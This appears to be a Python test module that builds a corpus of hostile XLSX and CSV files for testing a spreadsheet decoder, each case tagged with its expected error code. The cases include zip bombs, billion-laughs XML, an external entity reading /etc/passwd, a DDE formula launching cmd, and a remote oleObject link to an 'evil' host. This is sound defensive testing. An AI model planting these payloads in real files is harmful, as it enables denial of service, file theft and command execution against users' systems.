"""Files that mean harm, made when they are asked for: no binary lies in the repository.

Each Hostile says what makes it, which decoder meets it in the field, and the error codes that are right answers.
`python -m tests.malicious.corpus FOLDER` writes them all, for tools that want files.
"""

from __future__ import annotations

import io
import random
import re
import struct
import sys
import zipfile
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from pathlib import Path

from simulator.wires._workbook import locked, saved
from simulator.wires.mental_health_service import HEADINGS, month_sheet

WORKBOOK = "extractors._kit.sheets:workbook_counts"
TABLE = "extractors._kit.sheets:workbook_table"
CSV = "extractors._kit.tables:csv_counts"
PASSWORD = "corpus-password"
ROW = {
    "stat_month": "202211", "area_code": "440111017", "service_type": "01", "service_cnt": "386", "due_cnt": "400",
    "ontime_cnt": "380", "staff_cnt": "5", "report_org": "某中心", "report_time": "2022-12-04 09:00:00",
}  # fmt: skip
XLSM = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 12))


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus."""

    name: str
    decoder: str
    codes: tuple[str, ...]
    make: Callable[[], bytes]


def honest() -> bytes:
    """The workbook the others are made from."""
    return saved(month_sheet([ROW], chinese=True))


def changed(change: Callable[[str, bytes], bytes | None], add: Iterable[tuple[str, bytes]] = ()) -> bytes:
    """The honest workbook with its parts changed (None: left out), and with more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(honest())) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = change(entry.filename, old.read(entry))
            if part is not None:
                new.writestr(entry.filename, part)
        for name, part in add:
            new.writestr(name, part)
    return out.getvalue()


def adding(*parts: tuple[str, bytes]) -> bytes:
    """The honest workbook with more parts."""
    return changed(lambda name, part: part, parts)


def in_sheet(old: bytes, new: bytes) -> bytes:
    """The honest workbook with one place of its sheet replaced."""

    def change(name: str, part: bytes) -> bytes:
        assert name != "xl/worksheets/sheet1.xml" or old in part
        return part.replace(old, new, 1) if name == "xl/worksheets/sheet1.xml" else part

    return changed(change)


def shared_strings(megabytes: int, filling: int) -> bytes:
    """Shared strings that inflate to so many megabytes; the more filling, the smaller the file."""
    words = random.Random(1)
    strings = (f"<si><t>{words.getrandbits(20):07d}{'填充' * filling}</t></si>" for _ in range(1_400))
    block = "".join(strings).encode()
    blocks = megabytes * 1_000_000 // len(block)
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(honest())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as new,
    ):
        for entry in old.infolist():
            if entry.filename != "xl/sharedStrings.xml":
                new.writestr(entry.filename, old.read(entry))
        with new.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            for _ in range(blocks):
                part.write(block)
            part.write(b"</sst>")
    return out.getvalue()


def many_entries() -> bytes:
    """A hundred thousand empty entries."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for number in range(100_000):
            archive.writestr(f"xl/{number}.xml", b"")
    return out.getvalue()


def overlapping() -> bytes:
    """Two entries of the directory that point to the same bytes."""
    data = bytearray(adding(("xl/a.xml", b"a" * 5_000), ("xl/b.xml", b"b" * 5_000)))
    places = [m.start() for m in re.finditer(rb"PK\x01\x02", data)]
    first, second = places[-2:]
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def wide_rows() -> bytes:
    """A row for every line a sheet can have."""
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (n, n) for n in range(20, 1_048_577))
    return in_sheet(b"</sheetData>", rows + b"</sheetData>")


def nested(depth: int) -> bytes:
    """Elements within elements."""
    opened = b"".join(b"<r%d>" % n for n in range(depth))
    return opened + b"".join(b"</r%d>" % n for n in reversed(range(depth)))


def old_xls() -> bytes:
    """The head of a workbook of 1997: OLE, but nothing encrypted."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(4_000)


def csv_of(*lines: str, encoding: str = "gb18030") -> bytes:
    """A CSV of the monthly kind."""
    head = "stat_month,area_code,service_type,service_cnt,planned_cnt,ontime_cnt,staff_cnt,station_cnt"
    return "\r\n".join([head, *lines, ""]).encode(encoding)


GOOD = "202211,440111017,01,12,12,10,2,1"
RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{to}" '
    'TargetMode="External"/></Relationships>'
)

CORPUS = (
    Hostile("bomb-1028-to-1", WORKBOOK, ("DE-BOMB",), lambda: adding(("xl/media/a.xml", bytes(100_000_000)))),
    Hostile("nested-zip", WORKBOOK, ("DE-BOMB",), lambda: adding(("xl/inner.zip", honest()))),
    Hostile("many-entries", WORKBOOK, ("DE-BOMB",), many_entries),
    Hostile("overlapping-entries", WORKBOOK, ("DE-BOMB",), overlapping),
    Hostile("same-name-twice", WORKBOOK, ("DE-BOMB",), lambda: adding(("xl/workbook.xml", b"<a/>"))),
    Hostile("shared-strings-600-mb", WORKBOOK, ("DE-LIMIT",), lambda: shared_strings(600, 120)),
    Hostile("shared-strings-under-the-bounds", WORKBOOK, ("DE-LIMIT",), lambda: shared_strings(240, 3)),
    Hostile(
        "cell-xfd1048576", WORKBOOK, ("DE-LIMIT",),
        lambda: in_sheet(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    ),
    Hostile(
        "row-number-beyond-all", WORKBOOK, ("DE-LIMIT",),
        lambda: in_sheet(b"</sheetData>", b'<row r="999999999999"><c><v>1</v></c></row></sheetData>'),
    ),
    Hostile("a-million-rows", WORKBOOK, ("DE-LIMIT",), wide_rows),
    Hostile(
        "formula", WORKBOOK, ("DE-ACTIVE",),
        lambda: in_sheet(b"</sheetData>", b'<row r="20"><c r="A20"><f>SUM(D3:D9)</f><v>7</v></c></row></sheetData>'),
    ),
    Hostile(
        "dde-formula", WORKBOOK, ("DE-ACTIVE",),
        lambda: in_sheet(
            b"</sheetData>", b'<row r="20"><c r="A20" t="str"><f>cmd|\'/c calc\'!A0</f><v>x</v></c></row></sheetData>'
        ),
    ),
    Hostile(
        "external-link", WORKBOOK, ("DE-ACTIVE",),
        lambda: adding(("xl/externalLinks/externalLink1.xml", b"<externalLink/>")),
    ),
    Hostile(
        "external-template", WORKBOOK, ("DE-ACTIVE",),
        lambda: adding(
            ("xl/worksheets/_rels/sheet1.xml.rels", RELATION.format(kind="oleObject", to="file://evil/a.xls").encode())
        ),
    ),
    Hostile("embedded-object", WORKBOOK, ("DE-ACTIVE",), lambda: adding(("xl/embeddings/oleObject1.bin", b"x"))),
    Hostile("macro-part", WORKBOOK, ("DE-ACTIVE",), lambda: adding(("xl/vbaProject.bin", b"x"))),
    Hostile(
        "xlsm-renamed", WORKBOOK, ("DE-ACTIVE",),
        lambda: changed(lambda name, part: part.replace(XLSX.encode(), XLSM.encode())),
    ),
    Hostile("html-renamed", WORKBOOK, ("DE-KIND",), lambda: b"<html><table><tr><td>1</td></tr></table></html>"),
    Hostile("csv-renamed", WORKBOOK, ("DE-KIND",), lambda: csv_of(GOOD)),
    Hostile("old-xls-renamed", WORKBOOK, ("DE-KIND",), old_xls),
    Hostile("a-zip-that-is-no-workbook", WORKBOOK, ("DE-KIND",), lambda: changed(lambda _, __: None, [("a", b"a")])),
    Hostile("cut-short", WORKBOOK, ("DE-KIND",), lambda: honest()[:-200]),
    Hostile("empty", WORKBOOK, ("DE-KIND",), lambda: b""),
    Hostile("other-password", WORKBOOK, ("DE-PASSWORD",), lambda: locked(honest(), "another")),
    Hostile("no-password", WORKBOOK, ("DE-PASSWORD",), honest),
    Hostile(
        "billion-laughs", WORKBOOK, ("DE-XML",),
        lambda: in_sheet(b"<worksheet", f'<!DOCTYPE a [<!ENTITY l0 "ha">{LAUGHS}]><worksheet'.encode()),
    ),
    Hostile(
        "external-entity", WORKBOOK, ("DE-XML",),
        lambda: in_sheet(b"<worksheet", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><worksheet'),
    ),
    Hostile(
        "dtd-in-utf-16", WORKBOOK, ("DE-XML",),
        lambda: adding(("xl/a.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a/>'.encode("utf-16"))),
    ),
    Hostile(
        "deeply-nested", WORKBOOK, ("DE-KIND", "DE-CRASH", "DE-LIMIT", "DE-PASSWORD"),
        lambda: in_sheet(b"</sheetData>", nested(100_000) + b"</sheetData>"),
    ),
    Hostile("formula-in-an-export", TABLE, ("DE-ACTIVE",), lambda: in_sheet(
        b"</sheetData>", b'<row r="20"><c r="A20"><f>1+1</f></c></row></sheetData>'
    )),
    Hostile("unclosed-quote", CSV, ("DE-QUOTE",), lambda: csv_of(GOOD, '202211,"440111017,02,1,1,1,1,1', GOOD, GOOD)),
    Hostile("quote-over-lines", CSV, ("DE-QUOTE",), lambda: csv_of(GOOD, '202211,"4401\r\n11017",02,1,1,1,1,1', GOOD)),
    Hostile("field-of-a-megabyte", CSV, ("DE-QUOTE",), lambda: csv_of(GOOD, "9" * 1_000_000)),
    Hostile("nul-bytes", CSV, ("DE-ENC",), lambda: csv_of(GOOD.replace("01", "0\0001"))),
    Hostile("utf-8", CSV, ("DE-ENC",), lambda: csv_of(GOOD.replace("12,12", "十二人次,12"), encoding="utf-8")),
    Hostile("utf-16", CSV, ("DE-ENC",), lambda: csv_of(GOOD, encoding="utf-16")),
    Hostile("half-a-character", CSV, ("DE-ENC",), lambda: csv_of(GOOD).replace(b"12,12", b"12\x81,12")),
    Hostile("mojibake-inside", CSV, ("DE-ENC",), lambda: csv_of(GOOD.replace("12,12", "锟斤拷,12"))),
    Hostile("xlsx-renamed-csv", CSV, ("DE-KIND",), honest),
    Hostile("html-renamed-csv", CSV, ("DE-KIND",), lambda: b"<html></html>"),
    Hostile("thirteen-columns", CSV, ("EX-TRIPWIRE",), lambda: csv_of(GOOD + ",1,2,3,4,5")),
    Hostile("no-headings", CSV, ("DE-HEAD",), lambda: b"a,b,c\r\n1,2,3\r\n"),
)  # fmt: skip


def options() -> dict[str, object]:
    """The options under which the corpus is decoded."""
    headings = {field: [name] for field, name in HEADINGS.items()} | {"planned_cnt": ["计划量"], "station_cnt": []}
    keys = ["stat_month", "area_code", "service_type"]
    return {"password": PASSWORD, "sheet": "服务量汇总", "headings": headings, "required": keys, "key": keys}


def main() -> int:
    """Write the corpus into a folder."""
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for hostile in CORPUS:
        (folder / f"{hostile.name}.{'csv' if hostile.decoder == CSV else 'xlsx'}").write_bytes(hostile.make())
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
